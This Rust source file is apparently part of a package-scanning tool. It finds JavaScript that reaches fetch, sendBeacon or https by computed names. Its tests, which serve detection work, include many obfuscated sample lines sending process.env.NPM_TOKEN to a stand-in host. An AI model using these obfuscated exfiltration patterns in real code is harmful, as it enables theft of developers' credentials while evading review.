//! What code reaches by names that it computes: `globalThis[name](…)`, `require(name).get(…)`.
//!
//! Which calls can be listed ones is told by the names that are written in a file. Who writes `fetch` as `["fe", "tch"]`
//! writes none, but looks it up all the same, in what holds every global or with what loads every module. These places
//! are few. The names in them are evaluated first, and count from then on as if they were written there.

use std::collections::BTreeSet;

use swc_atoms::Atom;

use crate::{
    eval::{Evaluator, normal_specifier},
    filter::GLOBAL_OBJECTS,
    ir::{Expr, ExprId, Module},
    machine::Loader,
    tables::Tables,
    value::{Root, Segment, Value},
};

/// The global whose methods look properties up.
const REFLECT: &str = "Reflect";

/// The names by which a graph looks something up.
#[derive(Debug, Default)]
pub(crate) struct Reached {
    pub(crate) names: BTreeSet<Atom>,
    /// Whether it takes the machine to compute some of them.
    pub(crate) takes_machine: bool,
    /// Whether one of them comes from another file.
    pub(crate) asks_others: bool,
}

/// Whether a graph may look something up by a name that it computes.
pub(crate) fn looks_up(module: &Module, tables: &Tables) -> bool {
    if module.loads_unknown {
        return true;
    }
    let (mut holds, mut looks_up, mut loads, mut loaders) = (false, false, false, 0usize);
    for expr in &module.exprs {
        match expr {
            Expr::Global(name) if tables.may_load(name) => loaders += 1,
            Expr::Global(name) if &**name == REFLECT => looks_up = true,
            Expr::Global(name) => holds |= tables.is_holder(name),
            Expr::Member(_, name) => loads |= tables.may_load(name),
            Expr::Index(_, name) => looks_up |= !matches!(module.expr(*name), Expr::Number(_)),
            _ => {}
        }
    }
    let is_holder = |id: ExprId| matches!(module.expr(id), Expr::Global(name) if tables.is_holder(name));
    looks_up |= module.calls.iter().any(|call| matches!(*call.arguments, [holder, _, ..] if is_holder(holder)));
    // What is only called is given to nobody.
    let called = module
        .calls
        .iter()
        .filter(|call| matches!(module.expr(call.callee), Expr::Global(name) if tables.may_load(name)));
    loads || holds && looks_up || loaders > called.count()
}

/// What something is looked up in.
enum Holder {
    /// What loads modules.
    Loader,
    /// The object of all globals.
    Globals,
    /// A global.
    Global(Atom),
}

impl Holder {
    fn of(value: &Value, tables: &Tables) -> Option<Self> {
        let Value::Path(path) = value else { return None };
        match (&path.root, path.segments.as_slice()) {
            (Root::Global(name), []) if tables.may_load(name) => Some(Self::Loader),
            (Root::Global(name), []) if GLOBAL_OBJECTS.contains(&&**name) => Some(Self::Globals),
            (Root::Global(name), []) => Some(Self::Global(name.clone())),
            _ => None,
        }
    }

    /// Whether what has that name in it is something that the tables know, or leads to it.
    fn has(&self, name: &Atom, tables: &Tables) -> bool {
        match self {
            Self::Loader => tables.knows_module(&normal_specifier(name)),
            Self::Globals => tables.knows_global(name),
            Self::Global(global) => tables.leads_on(global, name),
        }
    }
}

/// The names by which a graph looks up what the tables know, beside those that are written where it does.
///
/// `loader` reads files for the machine, which may take `steps` steps.
pub(crate) fn reached<'m>(
    evaluator: &mut Evaluator<'m>,
    tables: &'m Tables,
    loader: &'m dyn Loader,
    steps: u64,
) -> Reached {
    let mut reached = Reached::default();
    let mut open = Vec::new();
    for lookup in evaluator.lookups(&tables.holders()) {
        let held = evaluator.holder(lookup.holder);
        let found: Vec<Holder> = held.choices().iter().filter_map(|choice| Holder::of(&choice.value, tables)).collect();
        if found.is_empty() {
            continue;
        }
        let name = evaluator.value(lookup.name);
        let could_compute = evaluator.could_compute(&name);
        reached.add(&found, &name, tables);
        if could_compute {
            open.push((found, lookup.name));
        }
    }
    let known = reached.names.len();
    let (holders, names): (Vec<Vec<Holder>>, Vec<ExprId>) = open.into_iter().unzip();
    let computed = evaluator.computed_values(&names, loader, steps);
    holders.iter().zip(&computed).for_each(|(holders, name)| reached.add(holders, name, tables));
    reached.takes_machine = reached.names.len() > known;
    reached
}

impl Reached {
    /// Adds what these have under the names that a value can be.
    fn add(&mut self, holders: &[Holder], name: &Value, tables: &Tables) {
        for choice in name.choices() {
            // Whatever finds modules for somebody is in another file mostly; what it exports as it is, is a name.
            let is_name = |segment: &Segment| matches!(segment, Segment::Property(_));
            let is_made = matches!(&choice.value, Value::Path(path) if !path.segments.iter().all(is_name));
            let is_loaded = holders.iter().all(|holder| matches!(holder, Holder::Loader));
            self.asks_others |= is_of_other_file(&choice.value) && !(is_loaded && is_made);
            let Some(text) = choice.value.as_text() else { continue };
            let name = Atom::from(text.text.as_str());
            if holders.iter().any(|holder| holder.has(&name, tables)) {
                self.names.insert(name);
            }
        }
    }
}

/// Whether a value is one that a file of the same package exports, or something made of that.
fn is_of_other_file(value: &Value) -> bool {
    let is_of_package = |specifier: &Atom| specifier.starts_with(['.', '#', '/']);
    matches!(value, Value::Path(path) if matches!(&path.root, Root::Module(specifier) if is_of_package(specifier)))
}

#[cfg(test)]
mod tests {
    use molehunt_model::Behaviour;

    use crate::testing::extracted;

    fn sends(code: &str) -> usize {
        let facts = extracted(code).facts;
        facts.iter().filter(|fact| matches!(fact.behaviour, Behaviour::SendData(_))).count()
    }

    #[test]
    fn a_global_is_known_however_its_name_is_made() {
        for callee in [
            "globalThis[['fe', 'tch'].join('')]",
            "globalThis['fetches'.slice(0, 5)]",
            "globalThis[decodeURIComponent('%66etch')]",
            "self[atob('ZmV0Y2g=')]",
            "Reflect.get(global, 'hctef'.split('').reverse().join(''))",
            "Function('return this')()[`fe${'tch'}`]",
            "(0, eval)('this')[`fe${'tch'}`]",
            "navigator[['send', 'Beacon'].join('')]",
            "((o, k) => o[k])(globalThis, ['fe', 'tch'].join(''))",
            "[globalThis][0][['fe', 'tch'].join('')]",
        ] {
            let code = format!("{callee}('https://x.example/?' + process.env.NPM_TOKEN)");
            assert_eq!(sends(&code), 1, "{callee}");
        }
    }

    #[test]
    fn a_module_is_known_however_it_is_loaded() {
        for module in [
            "require(['ht', 'tps'].join(''))",
            "process.mainModule.require('https')",
            "process.getBuiltinModule('node:https')",
            "module.constructor._load('https')",
            "require('module')._load(['ht', 'tps'].join(''))",
            "require('module').createRequire(__filename)('https')",
            "require.main.require('https')",
        ] {
            let code = format!("{module}.get('https://x.example/?' + process.env.NPM_TOKEN)");
            assert_eq!(sends(&code), 1, "{module}");
        }
    }

    #[test]
    fn what_a_method_gives_to_a_global_is_sent() {
        for call in ["[url].forEach(fetch)", "Promise.resolve(url).then(fetch)", "[url].map(navigator.sendBeacon)"] {
            let code = format!("const url = 'https://x.example/?' + process.env.NPM_TOKEN; {call}");
            assert_eq!(sends(&code), 1, "{call}");
        }
    }

    #[test]
    fn what_is_kept_as_a_global_is_what_was_kept() {
        for (keep, read) in [
            ("globalThis.last = process.env.NPM_TOKEN", "globalThis.last"),
            ("global.last = process.env.NPM_TOKEN", "last"),
            ("last = process.env.NPM_TOKEN", "window.last"),
        ] {
            let code = format!("{keep}; setTimeout(() => fetch('https://x.example/?' + {read}), 1)");
            let facts = extracted(&code).facts;
            let sent = facts.iter().find_map(|fact| match &fact.behaviour {
                Behaviour::SendData(sent) => Some(sent.carries.len()),
                _ => None,
            });
            assert_eq!(sent, Some(1), "{code}");
        }
    }

    #[test]
    fn what_is_looked_up_in_something_else_is_not_that() {
        for callee in ["table[['fe', 'tch'].join('')]", "globalThis[['ca', 'che'].join('')]", "globalThis[name]"] {
            let code = format!("{callee}('https://x.example/?' + process.env.NPM_TOKEN)");
            assert_eq!(sends(&code), 0, "{callee}");
        }
    }

    #[test]
    fn a_name_from_another_file_is_asked_for() {
        assert!(extracted("const n = require('./n'); globalThis[n.ask](url)").asks_others());
        assert!(extracted("const n = require('./n'); globalThis[n.ask()](url)").asks_others());
        assert!(!extracted("const n = require('./n'); require(n.find('x'))").asks_others());
    }
}
